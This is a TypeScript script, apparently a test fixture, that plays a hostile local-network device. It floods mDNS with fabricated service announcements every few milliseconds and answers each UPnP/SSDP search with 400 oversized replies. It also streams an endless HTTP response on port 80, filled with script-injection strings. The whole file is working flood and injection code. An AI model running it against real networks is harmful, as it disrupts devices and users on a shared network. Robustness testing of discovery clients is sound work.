/**
 * A device that means harm, and shouts. Announces made-up services by mDNS as
 * fast as it may, answers every UPnP search with hundreds of devices, and serves pages without an end on 80.
 * Argument: the address to shout from.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';

const [own = ''] = process.argv.slice(2);
const MDNS = { address: '224.0.0.251', port: 5353 } as const;
const SSDP = { address: '239.255.255.250', port: 1900 } as const;
const SHOUT_MS = 5;
const ANSWERS = 400;

const u16 = (...values: number[]): Buffer => {
  const bytes = Buffer.alloc(values.length * 2);
  for (const [at, value] of values.entries()) bytes.writeUInt16BE(value, at * 2);
  return bytes;
};
const string = (text: string): Buffer => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
const nameOf = (text: string): Buffer => Buffer.concat([...text.split('.').map(string), Buffer.from([0])]);
/** RFC 1035, section 4.1.3; class IN, 120 s. */
const record = (name: string, type: number, data: Buffer): Buffer =>
  Buffer.concat([nameOf(name), u16(type, 1, 0, 120, data.length), data]);

let serial = 0;
const announce = (): Buffer => {
  const name = `${'<b>'.repeat(15)}${++serial}._http._tcp.local`;
  const target = `host-${serial}.local`;
  return Buffer.concat([
    u16(0, 0x8400, 0, 4, 0, 0),
    record('_http._tcp.local', 12, nameOf(name)),
    record(name, 33, Buffer.concat([u16(0, 0, serial % 65_536), nameOf(target)])),
    record(name, 16, Buffer.concat([string('x'.repeat(250)), string('y'.repeat(250))])),
    record(target, 1, Buffer.from(own.split('.').map(Number))),
  ]);
};

const shouter = createSocket({ type: 'udp4', reuseAddr: true });
await new Promise<void>((resolve) => shouter.bind({ port: MDNS.port, address: own }, resolve));
shouter.setMulticastInterface(own);
setInterval(() => {
  for (let at = 0; at < 10; at++) shouter.send(announce(), MDNS.port, MDNS.address);
}, SHOUT_MS);

const searched = createSocket({ type: 'udp4', reuseAddr: true });
searched.on('message', (_bytes, { address, port }) => {
  for (let at = 0; at < ANSWERS; at++) {
    const location = `http://${own}:80/${at}/${'a'.repeat(400)}`;
    const answer = `HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nSERVER: ${'S'.repeat(300)}\r\nLOCATION: ${location}\r\n\r\n`;
    searched.send(answer, port, address);
  }
});
await new Promise<void>((resolve) => searched.bind(SSDP.port, resolve));
searched.addMembership(SSDP.address, own);

const flood = Buffer.alloc(16 * 1024, 'Server: <script>alert(1)</script>\r\n');
const web = createServer((socket) => {
  socket.on('error', () => undefined);
  const pour = () => {
    while (!socket.destroyed && socket.write(flood));
  };
  socket.on('drain', pour);
  socket.write('HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<title>');
  pour();
});
await once(web.listen(80), 'listening');
console.log('ready');
